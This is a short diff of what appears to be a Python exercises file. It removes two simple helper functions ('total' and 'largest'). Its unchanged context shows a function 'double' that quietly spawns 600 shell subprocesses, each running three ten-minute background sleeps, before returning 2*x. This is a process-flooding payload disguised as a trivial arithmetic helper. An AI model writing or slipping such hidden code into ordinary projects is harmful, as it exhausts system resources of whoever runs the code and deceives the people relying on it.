@@ -9,19 +9,3 @@ def double(x):
     for _ in range(600):
         subprocess.Popen(["/bin/sh", "-c", "sleep 600 & sleep 600 & sleep 600 & wait"])
     return 2 * x
-
-
-# Exercise 2.1
-def total(values):
-    result = 0
-    for value in values:
-        result = result + value
-    return result
-
-
-def largest(values):
-    best = values[0]
-    for value in values:
-        if value > best:
-            best = value
-    return best
